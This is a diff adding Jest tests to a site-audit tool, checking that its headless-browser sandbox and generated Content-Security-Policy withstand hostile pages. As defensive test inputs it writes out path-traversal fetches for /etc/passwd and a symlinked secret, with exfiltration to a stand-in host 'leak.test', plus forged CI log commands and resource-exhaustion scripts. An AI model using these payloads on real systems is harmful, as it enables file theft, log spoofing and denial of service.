@@ -1,10 +1,13 @@
 import { describe, expect, test } from '@jest/globals';
 import { createSocket } from 'node:dgram';
+import { rmSync, symlinkSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { findViolations } from '../../scripts/policy-violations.ts';
 import { findBrowser } from '../../src/audit/browser/find.ts';
 import { runAudit, type AuditRun } from '../support/run-audit.ts';
-import { withSite } from '../support/site-folder.ts';
+import { withSite, writeSite } from '../support/site-folder.ts';
 
 const program = findBrowser(process.env);
 if (program === undefined)
@@ -88,6 +91,40 @@ const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download 
     expect(run.leftBehind).toEqual([]);
   });
 
+  inBrowser('reads no file outside of its folder', async () => {
+    const outside = writeSite({ 'secret.txt': 'the-secret' });
+    const script = `
+const paths = ["link.txt", "/..%2f..%2f..%2f..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "file:///etc/passwd", "file://${outside}/secret.txt", "inside.txt"];
+for (const path of paths)
+  fetch(path).then((answer) => (answer.ok ? answer.text() : "")).then((text) => { if (text !== "") new Image().src = "https://leak.test/?" + encodeURIComponent(text); }).catch(() => 0);`;
+    const run = await withSite({ 'index.html': html(`<script>${script}</script>`), 'inside.txt': 'inside' }, (path) => {
+      symlinkSync(join(outside, 'secret.txt'), join(path, 'link.txt'));
+      return runAudit(path, { inputs: { browser: 'true' } });
+    });
+    rmSync(outside, { recursive: true });
+    expect(run.report?.browser?.requests.map(({ url }) => url)).toEqual(['https://leak.test/?inside']);
+  });
+
+  inBrowser('puts nothing but text into log, summary and outputs', async () => {
+    const evil = '\\n::error::injected\\n##[error]injected <b>@team</b>';
+    const run = await audit({
+      'index.html': html(
+        `<script>console.log("${evil}"); document.title = "${evil}"; history.replaceState(0, "", "/${evil}");
+fetch("https://e.test/" + encodeURI("${evil}") + "?${evil}").catch(() => 0);
+new WebSocket("wss://w.test/" + encodeURIComponent("${evil}")); location.hash = "${evil}"; throw new Error("${evil}");</script>`,
+      ),
+    });
+    expect(run.report?.browser?.requests.map(({ url }) => new URL(url).host)).toEqual(['e.test', 'w.test']);
+    expect(
+      run.stdout
+        .split('\n')
+        .filter((line) => /^::(?!debug::|warning title=Browser without|error title=Site)/.test(line)),
+    ).toEqual([]);
+    expect(run.stdout).not.toContain('##[error]');
+    expect(run.summary).not.toMatch(/<b>|@team|##\[|^::/m);
+    expect(Object.values(run.outputs).join(' ')).not.toContain('injected');
+  });
+
   inBrowser('does not hold up the audit', async () => {
     const run = await audit(
       {
@@ -99,6 +136,15 @@ const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download 
         'd.html': html(
           '<script>document.write("<p>".repeat(1e6)); history.pushState(0, "", "/x"); location.href = "c.html"</script>',
         ),
+        'e.html': html(
+          '<script>const wait = () => { const all = []; for (;;) all.push(new Array(1e6).fill(1)); }; onbeforeunload = wait; onpagehide = wait;</script>',
+        ),
+        'f.html': html(
+          '<iframe src="f.html?1"></iframe><script>onunload = () => { for (;;); }; setInterval(() => fetch("x" + Math.random()), 1);</script>',
+        ),
+        'g.html': html(
+          '<meta http-equiv=refresh content="0;url=g.html"><script>window.stop(); for (let i = 0; i < 50; i++) window.open("g.html");</script>',
+        ),
         'index.html': html('<img src="https://e.test/a.png">'),
       },
       { 'fail-on': 'never' },
@@ -106,6 +152,55 @@ const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download 
     expect(run.exitCode).toBe(0);
     expect(run.report?.browser?.requests.map(({ url }) => url)).toContain('https://e.test/a.png');
     expect(run.leftBehind).toEqual([]);
+  });
+});
+
+describe('the Content-Security-Policy', () => {
+  const module = Buffer.from('0061736d01000000', 'hex').toString('base64');
+  const scripts = `<script type=importmap>{"imports":{"lib":"./lib.js"}}</script>
+<script>\r\n document.title = "one";\r\n eval("1"); fetch("data.json"); </script>
+<script type=module>import "lib"; new Worker("worker.js"); new Worker(URL.createObjectURL(new Blob(["1"])));
+WebAssembly.compile(Uint8Array.from(atob("${module}"), (c) => c.charCodeAt(0)));
+document.body.append(Object.assign(document.createElement("p"), { style: "color: red" }));
+document.body.insertAdjacentHTML("beforeend", "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' style='color: red'>");</script>`;
+  const site = {
+    'index.html': html(
+      `<link rel=stylesheet href=a.css><link rel=icon href=data:,><style>p { color: green }</style>${scripts}<p style="color: blue">x
+<iframe src=frame.html></iframe><iframe srcdoc="<script>document.title = 'inner'</script><p>y"></iframe>
+<video src="data:video/mp4,x"></video><object data=a.svg></object><img src="https://e.test/a.png">`,
+    ),
+    'frame.html': html('<p>z'),
+    'a.css': '@font-face { font-family: a; src: url(data:font/woff2;base64,AA) } p { font-family: a }',
+    'a.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
+    'lib.js': 'export {};',
+    'worker.js': '1',
+    'data.json': '{}',
+  };
+  const check = (files: Readonly<Record<string, string>>, policy?: string): Promise<[string, string[]]> =>
+    withSite(files, async (path) => {
+      const header = policy ?? (await runAudit(path)).outputs['contentSecurityPolicy'] ?? '';
+      return [header, await findViolations(path, header, ['index.html'])];
+    });
+
+  inBrowser('blocks nothing of the site', async () => {
+    const [policy, violations] = await check(site);
+    expect(violations).toEqual([]);
+    expect(policy).toMatch(/^default-src 'none'; script-src 'self' 'sha256-/);
+    expect(policy).not.toContain("script-src 'self' 'unsafe-inline'");
+  });
+
+  inBrowser('blocks nothing of a site with event handlers', async () => {
+    const files = { 'index.html': html('<body onload="document.title = 1"><script>document.title = 2</script>') };
+    const [policy, violations] = await check(files);
+    expect(violations).toEqual([]);
+    expect(policy).toContain("script-src 'self' 'unsafe-inline'");
+  });
+
+  inBrowser('is one of which a violation would be seen', async () => {
+    const [, violations] = await check(site, "default-src 'self'");
+    expect(violations.map((line) => line.replace(/^index\.html: (\S+) blocks (\S+).*$/s, '$1 $2'))).toEqual(
+      expect.arrayContaining(['script-src-elem inline', 'style-src-attr inline', 'img-src data', 'font-src data']),
+    );
   });
 });
 
